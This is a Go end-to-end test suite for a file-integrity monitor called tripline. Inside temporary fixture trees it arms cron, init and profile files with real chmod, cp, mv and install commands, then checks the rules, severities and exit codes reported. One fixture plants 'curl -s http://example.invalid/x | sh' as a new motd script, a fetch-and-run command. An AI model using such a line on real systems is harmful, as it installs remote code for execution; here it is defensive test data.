package main

// End-to-end tests: the tripline binary is built once and driven as a user would, on fixture
// trees under t.TempDir() passed with --root, with real chmod, install, cp, mv and python3
// processes making the changes. Nothing here touches the host's /etc, /home or /var.

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/tripline/tripline/internal/testenv"
)

var binary string

func TestMain(m *testing.M) {
	dir, err := os.MkdirTemp("", "tripline-e2e-")
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	os.Chmod(dir, 0o755) // the unprivileged test runs the binary as nobody
	binary = filepath.Join(dir, "tripline")
	out, err := exec.Command("go", "build", "-o", binary, ".").CombinedOutput()
	if err != nil {
		fmt.Fprintf(os.Stderr, "build tripline: %v\n%s", err, out)
		os.RemoveAll(dir)
		os.Exit(1)
	}
	code := m.Run()
	os.RemoveAll(dir)
	os.Exit(code)
}

type result struct {
	stdout, stderr string
	code           int
}

// tl runs the binary with a database and root of the fixture.
func tl(t *testing.T, fx *fixture, args ...string) result {
	t.Helper()
	return tlCmd(t, fx, nil, args...)
}

func tlCmd(t *testing.T, fx *fixture, setup func(*exec.Cmd), args ...string) result {
	t.Helper()
	full := append([]string{"--db", fx.db, "--root", fx.root}, args...)
	cmd := exec.Command(binary, full...)
	cmd.Env = append(os.Environ(), "TRIPLINE_POLICY=", "TRIPLINE_DB=", "TRIPLINE_ROOT=")
	var so, se bytes.Buffer
	cmd.Stdout, cmd.Stderr = &so, &se
	if setup != nil {
		setup(cmd)
	}
	err := cmd.Run()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatalf("run tripline %v: %v", args, err)
	}
	return result{so.String(), se.String(), code}
}

type fixture struct {
	root string // the tree scanned with --root
	db   string
}

func (fx *fixture) path(p string) string { return filepath.Join(fx.root, p) }

func (fx *fixture) write(t *testing.T, p, content string, mode os.FileMode) {
	t.Helper()
	full := fx.path(p)
	if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(full, []byte(content), mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(full, mode); err != nil { // WriteFile's mode is subject to the umask
		t.Fatal(err)
	}
}

// newFixture makes a small host-like tree with files in several locations.
func newFixture(t *testing.T) *fixture {
	t.Helper()
	dir := t.TempDir()
	fx := &fixture{root: filepath.Join(dir, "root"), db: filepath.Join(dir, "state", "tripline.db")}
	fx.write(t, "etc/cron.daily/backup", "#!/bin/sh\ntar czf /var/backups/etc.tgz /etc\n", 0o644)
	fx.write(t, "etc/cron.daily/logrotate", "#!/bin/sh\nlogrotate /etc/logrotate.conf\n", 0o755)
	fx.write(t, "etc/init.d/alpha", "#!/bin/sh\necho alpha\n", 0o644)
	fx.write(t, "etc/init.d/beta", "#!/bin/sh\necho beta\n", 0o755)
	fx.write(t, "etc/update-motd.d/10-help-text", "#!/bin/sh\necho help\n", 0o755)
	fx.write(t, "etc/profile.d/locale.sh", "export LANG=C.UTF-8\n", 0o644)
	fx.write(t, "etc/cron.d/sysstat", "*/10 * * * * root /usr/lib/sysstat/sa1 1 1\n", 0o644)
	fx.write(t, "etc/cron.d/old-job", "@daily root /usr/local/bin/old\n", 0o644)
	fx.write(t, "etc/systemd/system/app.service", "[Service]\nExecStart=/usr/bin/app\n", 0o644)
	fx.write(t, "etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n", 0o644)
	fx.write(t, "etc/group", "root:x:0:\nalice:x:1000:\n", 0o644)
	fx.write(t, "home/alice/.bashrc", "alias ll='ls -l'\n", 0o644)
	return fx
}

func sh(t *testing.T, name string, args ...string) {
	t.Helper()
	if out, err := exec.Command(name, args...).CombinedOutput(); err != nil {
		t.Fatalf("%s %v: %v\n%s", name, args, err, out)
	}
}

type jsonLine map[string]any

func parseLines(t *testing.T, s string) []jsonLine {
	t.Helper()
	var out []jsonLine
	sc := bufio.NewScanner(strings.NewReader(s))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		var m jsonLine
		if err := json.Unmarshal(sc.Bytes(), &m); err != nil {
			t.Fatalf("not a JSON line: %v\n%s", err, sc.Text())
		}
		out = append(out, m)
	}
	return out
}

func findings(lines []jsonLine) map[string]jsonLine {
	out := map[string]jsonLine{}
	for _, l := range lines {
		if l["type"] == "finding" {
			out[l["path"].(string)] = l
		}
	}
	return out
}

// TestScenario is the scripted scenario: first scan, six kinds of change made by real
// programs, a second scan reporting each with the right rule, severity and exit bits in text,
// json and ecs, then baseline update and a clean third scan.
func TestScenario(t *testing.T) {
	fx := newFixture(t)
	r := tl(t, fx, "scan")
	if r.code != 0 {
		t.Fatalf("first scan: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	for _, want := range []string{"Baseline recorded for " + fx.root, "cron-periodic", "sysv-init", "update-motd"} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("first scan output lacks %q:\n%s", want, r.stdout)
		}
	}
	if st, err := os.Stat(fx.db); err != nil || st.Mode().Perm() != 0o600 {
		t.Fatalf("database %s: %v, mode %v (want 0600)", fx.db, err, st.Mode())
	}
	if st, err := os.Stat(filepath.Dir(fx.db)); err != nil || st.Mode().Perm() != 0o700 {
		t.Fatalf("database directory: %v, mode %v (want 0700)", err, st.Mode())
	}

	sh(t, "chmod", "+x", fx.path("etc/cron.daily/backup"))
	sh(t, "chmod", "0755", fx.path("etc/init.d/alpha"))
	sh(t, "chmod", "u+s", fx.path("etc/init.d/beta"))
	src := filepath.Join(t.TempDir(), "evil")
	os.WriteFile(src, []byte("#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"), 0o600)
	sh(t, "install", src, fx.path("etc/update-motd.d/99-evil")) // plain install: mode 0755
	sh(t, "python3", "-c", "open('"+fx.path("etc/profile.d/locale.sh")+"', 'a').write('x')")
	sh(t, "rm", fx.path("etc/cron.d/old-job"))

	want := map[string]struct {
		rule, severity, kind string
	}{
		"/etc/cron.daily/backup":     {"exec-bit-set", "high", "modified"},
		"/etc/init.d/alpha":          {"exec-bit-set", "high", "modified"},
		"/etc/init.d/beta":           {"setuid-set", "critical", "modified"},
		"/etc/update-motd.d/99-evil": {"executable-created", "high", "created"},
		"/etc/profile.d/locale.sh":   {"content-changed", "medium", "modified"},
		"/etc/cron.d/old-job":        {"file-deleted", "low", "deleted"},
	}

	r = tl(t, fx, "scan", "--format", "json")
	if r.code != 1|2|4 {
		t.Fatalf("second scan: exit %d, want 7 (added|removed|changed)\n%s%s", r.code, r.stdout, r.stderr)
	}
	got := findings(parseLines(t, r.stdout))
	if len(got) != len(want) {
		t.Errorf("got %d findings, want %d:\n%s", len(got), len(want), r.stdout)
	}
	for p, w := range want {
		f, ok := got[p]
		if !ok {
			t.Errorf("no finding for %s", p)
			continue
		}
		if f["rule"] != w.rule || f["severity"] != w.severity || f["kind"] != w.kind || f["verdict"] != "alert" {
			t.Errorf("%s: rule=%v severity=%v kind=%v verdict=%v, want %+v", p, f["rule"], f["severity"], f["kind"], f["verdict"], w)
		}
	}

	// The same findings in text, and the history did not grow on a repeat scan.
	r = tl(t, fx, "scan")
	if r.code != 7 {
		t.Fatalf("text scan: exit %d", r.code)
	}
	for p, w := range want {
		if !regexpLine(r.stdout, w.severity, w.rule, p) {
			t.Errorf("text output has no line with %s %s %s:\n%s", w.severity, w.rule, p, r.stdout)
		}
	}

	r = tl(t, fx, "scan", "--format", "ecs")
	if r.code != 7 {
		t.Fatalf("ecs scan: exit %d", r.code)
	}
	ecs := parseLines(t, r.stdout)
	if len(ecs) != len(want) {
		t.Fatalf("got %d ECS events, want %d", len(ecs), len(want))
	}
	for _, ev := range ecs {
		file := ev["file"].(map[string]any)
		w := want[file["path"].(string)]
		rule := ev["rule"].(map[string]any)
		event := ev["event"].(map[string]any)
		if rule["id"] != w.rule || event["kind"] != "alert" || event["module"] != "tripline" {
			t.Errorf("ECS %s: rule %v kind %v", file["path"], rule["id"], event["kind"])
		}
	}

	// --fail-on high ignores the medium and low findings' bits: only changed (exec, setuid) and
	// added (executable-created) remain.
	if r := tl(t, fx, "scan", "--fail-on", "high"); r.code != 1|4 {
		t.Errorf("--fail-on high: exit %d, want 5", r.code)
	}
	if r := tl(t, fx, "scan", "--fail-on", "critical"); r.code != 4 {
		t.Errorf("--fail-on critical: exit %d, want 4", r.code)
	}

	r = tl(t, fx, "baseline", "update")
	if r.code != 0 || !strings.Contains(r.stdout, "5 paths accepted, 1 removed") {
		t.Fatalf("baseline update: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	r = tl(t, fx, "scan")
	if r.code != 0 || !strings.Contains(r.stdout, "No changes against the baseline") {
		t.Fatalf("third scan: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	r = tl(t, fx, "baseline", "show", "/etc/init.d/")
	if r.code != 0 || !strings.Contains(r.stdout, "4755 -rwsr-xr-x  root:root") {
		t.Errorf("baseline show: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
}

// regexpLine reports whether some line holds all the words in order.
func regexpLine(out string, words ...string) bool {
	for _, line := range strings.Split(out, "\n") {
		rest, ok := line, true
		for _, w := range words {
			i := strings.Index(rest, w)
			if i < 0 {
				ok = false
				break
			}
			rest = rest[i+len(w):]
		}
		if ok {
			return true
		}
	}
	return false
}

// TestMoreWaysToArm covers what Elastic's argv rule misses: python's os.chmod, cp -p and mv of an
// executable file, a symbolic mode that does not start with +x, and accepting single paths.
func TestMoreWaysToArm(t *testing.T) {
	fx := newFixture(t)
	if r := tl(t, fx, "scan"); r.code != 0 {
		t.Fatalf("first scan: %d %s", r.code, r.stderr)
	}
	sh(t, "python3", "-c", "import os; os.chmod('"+fx.path("etc/cron.daily/backup")+"', 0o750)")
	exe := filepath.Join(t.TempDir(), "payload")
	os.WriteFile(exe, []byte("#!/bin/sh\nid\n"), 0o755)
	os.Chmod(exe, 0o755)
	sh(t, "cp", "-p", exe, fx.path("etc/init.d/payload"))
	exe2 := filepath.Join(filepath.Dir(fx.path("etc/cron.daily/x")), ".staging")
	os.WriteFile(exe2, []byte("#!/bin/sh\nid\n"), 0o700)
	sh(t, "mv", exe2, fx.path("etc/cron.daily/zz-update"))
	sh(t, "chmod", "ug+x", fx.path("etc/systemd/system/app.service"))
	r := tl(t, fx, "scan", "--format", "json")
	got := findings(parseLines(t, r.stdout))
	checks := map[string]string{
		"/etc/cron.daily/backup":          "exec-bit-set",
		"/etc/init.d/payload":             "executable-created",
		"/etc/cron.daily/zz-update":       "executable-created",
		"/etc/systemd/system/app.service": "exec-bit-set",
	}
	for p, rule := range checks {
		if got[p]["rule"] != rule {
			t.Errorf("%s: rule %v, want %s", p, got[p]["rule"], rule)
		}
	}
	if got["/etc/systemd/system/app.service"]["severity"] != "low" {
		t.Errorf("exec bit on a unit file is low (config location), got %v", got["/etc/systemd/system/app.service"]["severity"])
	}
	// Accept one path: it no longer shows, the others still do.
	if r := tl(t, fx, "baseline", "accept", "/etc/init.d/payload"); r.code != 0 {
		t.Fatalf("accept: %d %s %s", r.code, r.stdout, r.stderr)
	}
	r = tl(t, fx, "scan", "--format", "json")
	got = findings(parseLines(t, r.stdout))
	if _, ok := got["/etc/init.d/payload"]; ok || len(got) != 3 {
		t.Errorf("after accepting one path: %d findings: %v", len(got), keys(got))
	}
	if r := tl(t, fx, "baseline", "accept", "/etc/nothing-here"); r.code != exitError || !strings.Contains(r.stderr, "nothing to accept") {
		t.Errorf("accepting an unchanged path: exit %d %s", r.code, r.stderr)
	}
}

func keys(m map[string]jsonLine) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}

// TestBadInput feeds the scan every kind of hostile entry and checks each is reported on one
// line, nothing hangs, and the exit codes are as documented.
func TestBadInput(t *testing.T) {
	testenv.RequireRoot(t) // device nodes
	fx := newFixture(t)
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(unix.Mkfifo(fx.path("etc/cron.daily/fifo"), 0o644))
	must(unix.Mknod(fx.path("etc/init.d/sock"), unix.S_IFSOCK|0o644, 0))
	must(unix.Mknod(fx.path("etc/update-motd.d/null-dev"), unix.S_IFCHR|0o644, int(unix.Mkdev(1, 3))))
	must(os.Symlink("loop2", fx.path("etc/init.d/loop1")))
	must(os.Symlink("loop1", fx.path("etc/init.d/loop2")))
	must(os.Symlink("/dev/zero", fx.path("etc/cron.daily/zero")))
	must(os.Symlink("/tmp/.x/payload", fx.path("etc/cron.daily/tmp-link")))
	fx.write(t, "etc/cron.d/new\nline", "* * * * * root id\n", 0o644)
	fx.write(t, "etc/cron.d/bad-\xff-utf8", "* * * * * root id\n", 0o644)
	long := makeLongPath(t, fx.path("etc/systemd/system"), 4000-len("/etc/systemd/system"))

	done := make(chan result, 1)
	go func() { done <- tl(t, fx, "scan", "--format", "json") }()
	var r result
	select {
	case r = <-done:
	case <-time.After(60 * time.Second):
		t.Fatal("first scan of the hostile tree did not finish in 60 s")
	}
	if r.code != 0 {
		t.Fatalf("first scan: exit %d\n%s\n%s", r.code, r.stdout, r.stderr)
	}
	notable := map[string]string{}
	var sawLong bool
	for _, l := range parseLines(t, r.stdout) {
		if l["type"] == "notable" {
			p := l["path"].(string)
			if esc, ok := l["entry"].(map[string]any)["path_escaped"].(string); ok {
				p = esc
			}
			notable[p] = fmt.Sprint(l["why"])
		}
	}
	r2 := tl(t, fx, "baseline", "show", "--format", "json")
	for _, l := range parseLines(t, r2.stdout) {
		if l["path"] == long {
			sawLong = true
		}
	}
	if !sawLong {
		t.Errorf("the %d-byte path is not in the baseline", len(long))
	}
	wantNotable := map[string]string{
		"/etc/cron.daily/fifo":        "a FIFO",
		"/etc/init.d/sock":            "a socket",
		"/etc/update-motd.d/null-dev": "a character device",
		"/etc/init.d/loop1":           "symlink loop",
		"/etc/cron.daily/zero":        "device path",
		"/etc/cron.daily/tmp-link":    "symlink into /tmp",
	}
	for p, why := range wantNotable {
		if !strings.Contains(notable[p], why) {
			t.Errorf("%s: notable %q, want it to mention %q", p, notable[p], why)
		}
	}
	// Odd names come out escaped and on one line in text.
	r = tl(t, fx, "baseline", "show", "/etc/cron.d/")
	if !strings.Contains(r.stdout, `"/etc/cron.d/new\nline"`) || !strings.Contains(r.stdout, `"/etc/cron.d/bad-\xff-utf8"`) {
		t.Errorf("odd names not escaped in baseline show:\n%s", r.stdout)
	}
	// A second scan is quiet: none of them is re-read or reported.
	if r := tl(t, fx, "scan"); r.code != 0 {
		t.Errorf("second scan of the unchanged hostile tree: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
}

// makeLongPath builds nested directories under dir until the logical path below dir reaches n
// bytes, using *at calls (the full host path exceeds PATH_MAX), and returns the logical path of
// a file at the bottom ("/etc/systemd/system/...").
func makeLongPath(t *testing.T, dir string, n int) string {
	t.Helper()
	fd, err := unix.Open(dir, unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		t.Fatal(err)
	}
	logical := "/etc/systemd/system"
	seg := strings.Repeat("d", 200)
	for len(logical)+1+len(seg)+1+20 < n+len("/etc/systemd/system") {
		if err := unix.Mkdirat(fd, seg, 0o755); err != nil {
			t.Fatal(err)
		}
		nfd, err := unix.Openat(fd, seg, unix.O_RDONLY|unix.O_DIRECTORY, 0)
		unix.Close(fd)
		if err != nil {
			t.Fatal(err)
		}
		fd = nfd
		logical += "/" + seg
	}
	name := strings.Repeat("f", n+len("/etc/systemd/system")-len(logical)-1)
	ffd, err := unix.Openat(fd, name, unix.O_CREAT|unix.O_WRONLY, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	unix.Write(ffd, []byte("[Unit]\n"))
	unix.Close(ffd)
	unix.Close(fd)
	t.Cleanup(func() { exec.Command("rm", "-rf", dir).Run() })
	return logical + "/" + name
}

// waitOpen waits until process pid has a file open whose path ends in suffix.
func waitOpen(t *testing.T, pid int, suffix string, deadline time.Duration) bool {
	t.Helper()
	end := time.Now().Add(deadline)
	for time.Now().Before(end) {
		fds, _ := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid))
		for _, fd := range fds {
			target, err := os.Readlink(fmt.Sprintf("/proc/%d/fd/%s", pid, fd.Name()))
			if err == nil && strings.HasSuffix(target, suffix) {
				return true
			}
		}
		time.Sleep(time.Millisecond)
	}
	return false
}

// scanWhileHashing starts a scan of fx that has to hash the 2 GiB sparse file etc/cron.daily/big,
// waits until the scan has that file open, calls during, and returns the scan's result.
func scanWhileHashing(t *testing.T, fx *fixture, during func(*exec.Cmd), args ...string) result {
	t.Helper()
	bigSparse(t, fx.path("etc/cron.daily/big"), 2<<30)
	full := append([]string{"--db", fx.db, "--root", fx.root, "scan", "--max-hash-size", fmt.Sprint(int64(4 << 30))}, args...)
	cmd := exec.Command(binary, full...)
	var so, se bytes.Buffer
	cmd.Stdout, cmd.Stderr = &so, &se
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	if !waitOpen(t, cmd.Process.Pid, "/etc/cron.daily/big", 20*time.Second) {
		cmd.Process.Kill()
		cmd.Wait()
		t.Fatal("the scan never opened the big file")
	}
	during(cmd)
	err := cmd.Wait()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	}
	return result{so.String(), se.String(), code}
}

// bigSparse makes a sparse file that takes a while to hash.
func bigSparse(t *testing.T, path string, size int64) {
	t.Helper()
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Truncate(size); err != nil {
		t.Fatal(err)
	}
	f.Close()
}

// TestVanishDuringHash deletes a file while the scan is reading it: the scan must say so on one
// line, exit with bit 8, and not report the file as deleted or changed.
func TestVanishDuringHash(t *testing.T) {
	fx := newFixture(t)
	r := scanWhileHashing(t, fx, func(*exec.Cmd) { os.Remove(fx.path("etc/cron.daily/big")) }, "--format", "json")
	code, so, se := r.code, r.stdout, r.stderr
	if code != exitUnreadable {
		t.Fatalf("exit %d, want 8\n%s\n%s", code, so, se)
	}
	lines := strings.Split(strings.TrimSpace(se), "\n")
	if len(lines) != 1 || !strings.Contains(lines[0], "/etc/cron.daily/big: vanished while being read") {
		t.Errorf("stderr should be one line naming the file:\n%s", se)
	}
	var sawErr bool
	for _, l := range parseLines(t, so) {
		if l["type"] == "error" && l["path"] == "/etc/cron.daily/big" {
			sawErr = true
		}
	}
	if !sawErr {
		t.Errorf("no json error object for the vanished file:\n%s", so)
	}
}

// TestInterrupt sends SIGINT during a first scan: exit 130, and nothing half-recorded (the next
// scan is a first scan again).
func TestInterrupt(t *testing.T) {
	fx := newFixture(t)
	r := scanWhileHashing(t, fx, func(c *exec.Cmd) { c.Process.Signal(syscall.SIGINT) })
	code, se := r.code, r.stderr
	if code != exitInterrupt || !strings.Contains(se, "interrupted") {
		t.Fatalf("exit %d, want 130; stderr %q", code, se)
	}
	os.Remove(fx.path("etc/cron.daily/big"))
	if r := tl(t, fx, "scan"); r.code != 0 || !strings.Contains(r.stdout, "Baseline recorded") {
		t.Errorf("scan after the interrupted first scan should record the baseline: exit %d\n%s", r.code, r.stdout)
	}
}

// TestUnreadable runs the scan as an unprivileged user on a tree with a directory it cannot list
// and a file it cannot read: both are listed on stderr, exit bit 8 is set, and nothing under the
// unreadable directory is reported deleted.
func TestUnreadable(t *testing.T) {
	testenv.RequireRoot(t) // to switch to uid 65534 and to own the unreadable entries
	fx := newFixture(t)
	fx.write(t, "etc/sudoers.d/visible", "# nothing\n", 0o644)
	fx.write(t, "etc/sudoers.d/secret", "alice ALL=(ALL) NOPASSWD: ALL\n", 0o600)
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	// The nobody user must be able to reach the tree and write its database.
	for d := fx.root; d != "/" && d != os.TempDir(); d = filepath.Dir(d) {
		must(os.Chmod(d, 0o755))
	}
	stateDir := filepath.Join(filepath.Dir(fx.root), "nobody-state")
	must(os.MkdirAll(stateDir, 0o777))
	must(os.Chmod(stateDir, 0o777))
	fx2 := &fixture{root: fx.root, db: filepath.Join(stateDir, "t.db")}
	asNobody := func(c *exec.Cmd) {
		c.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
		c.Env = append(c.Env, "HOME="+stateDir)
	}
	// First scan: the directory is listable, the 0600 file's content is not readable.
	r := tlCmd(t, fx2, asNobody, "scan")
	if r.code != exitUnreadable {
		t.Fatalf("scan as nobody: exit %d, want 8\n%s\n%s", r.code, r.stdout, r.stderr)
	}
	if !strings.Contains(r.stderr, "tripline: cannot read /etc/sudoers.d/secret: permission denied") {
		t.Errorf("stderr does not name the unreadable file:\n%s", r.stderr)
	}
	// Now the directory cannot be listed: its files are unknown, not deleted.
	must(os.Chmod(fx.path("etc/sudoers.d"), 0o700))
	r = tlCmd(t, fx2, asNobody, "scan", "--format", "json")
	if r.code != exitUnreadable {
		t.Fatalf("exit %d, want 8 (it cannot be listed; its mode change is info, which never alerts)\n%s\n%s", r.code, r.stdout, r.stderr)
	}
	got := findings(parseLines(t, r.stdout))
	if len(got) != 1 || got["/etc/sudoers.d"]["rule"] != "mode-changed" || got["/etc/sudoers.d"]["verdict"] != "recorded" {
		t.Errorf("want only a recorded mode-changed for the directory, got %v\n%s", keys(got), r.stdout)
	}
	if !strings.Contains(r.stderr, "/etc/sudoers.d: open directory: permission denied") {
		t.Errorf("stderr does not name the unlistable directory:\n%s", r.stderr)
	}
	for _, line := range strings.Split(strings.TrimSpace(r.stderr), "\n") {
		if !strings.HasPrefix(line, "tripline: cannot read ") {
			t.Errorf("unexpected stderr line %q", line)
		}
	}
}

// TestUsageAndErrors checks the exit codes and one-line messages of the CLI's error paths.
func TestUsageAndErrors(t *testing.T) {
	fx := newFixture(t)
	badPolicy := filepath.Join(t.TempDir(), "bad.yaml")
	os.WriteFile(badPolicy, []byte("version: 1\nlocations:\n  - id: x\n    pahts: [/etc/x]\n"), 0o644)
	notDB := filepath.Join(t.TempDir(), "not.db")
	os.WriteFile(notDB, bytes.Repeat([]byte("this is not a database\n"), 200), 0o600)
	cases := []struct {
		name string
		args []string
		code int
		msg  string
	}{
		{"unknown flag", []string{"scan", "--bogus"}, exitUsage, "flag provided but not defined"},
		{"bad format", []string{"scan", "--format", "xml"}, exitUsage, `--format "xml": must be one of text, json, ecs`},
		{"bad fail-on", []string{"scan", "--fail-on", "severe"}, exitUsage, "--fail-on"},
		{"unknown command", []string{"frobnicate"}, exitUsage, `unknown command "frobnicate"`},
		{"scan with args", []string{"scan", "/etc"}, exitUsage, "scan takes no arguments"},
		{"relative accept", []string{"baseline", "accept", "etc/x"}, exitUsage, "absolute path"},
		{"malformed policy", []string{"--policy", badPolicy, "scan"}, exitError, badPolicy + `:4: unknown key "pahts"`},
		{"policy check", []string{"policy", "check", badPolicy}, exitError, badPolicy + ":4:"},
		{"not a database", []string{"--db", notDB, "scan"}, exitError, "not a SQLite database"},
		{"show without db", []string{"baseline", "show"}, exitError, "no database yet"},
		{"missing root", []string{"--root", "/nonexistent/x", "scan"}, exitUsage, "--root /nonexistent/x"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			args := c.args
			fxc := fx
			if args[0] == "--db" || args[0] == "--root" {
				fxc = &fixture{root: fx.root, db: fx.db}
			}
			r := tl(t, fxc, args...)
			if r.code != c.code {
				t.Errorf("exit %d, want %d\nstdout: %s\nstderr: %s", r.code, c.code, r.stdout, r.stderr)
			}
			lines := strings.Split(strings.TrimRight(r.stderr, "\n"), "\n")
			last := lines[len(lines)-1]
			if !strings.Contains(last, c.msg) || !strings.HasPrefix(last, "tripline: ") {
				t.Errorf("stderr's last line %q should start with tripline: and contain %q", last, c.msg)
			}
		})
	}
	// --db after --root on the command line takes precedence over the fixture's (the last flag wins).
	if r := tl(t, fx, "policy", "check", "/dev/null"); r.code != exitError || !strings.Contains(r.stderr, "not a regular file") {
		t.Errorf("policy check /dev/null: %d %s", r.code, r.stderr)
	}
}

// TestRootMismatch refuses to compare one root against the baseline of another.
func TestRootMismatch(t *testing.T) {
	fx := newFixture(t)
	if r := tl(t, fx, "scan"); r.code != 0 {
		t.Fatal(r.stderr)
	}
	other := newFixture(t)
	r := tl(t, &fixture{root: other.root, db: fx.db}, "scan")
	if r.code != exitError || !strings.Contains(r.stderr, "use --db for a separate database per root") {
		t.Errorf("exit %d, stderr %s", r.code, r.stderr)
	}
}
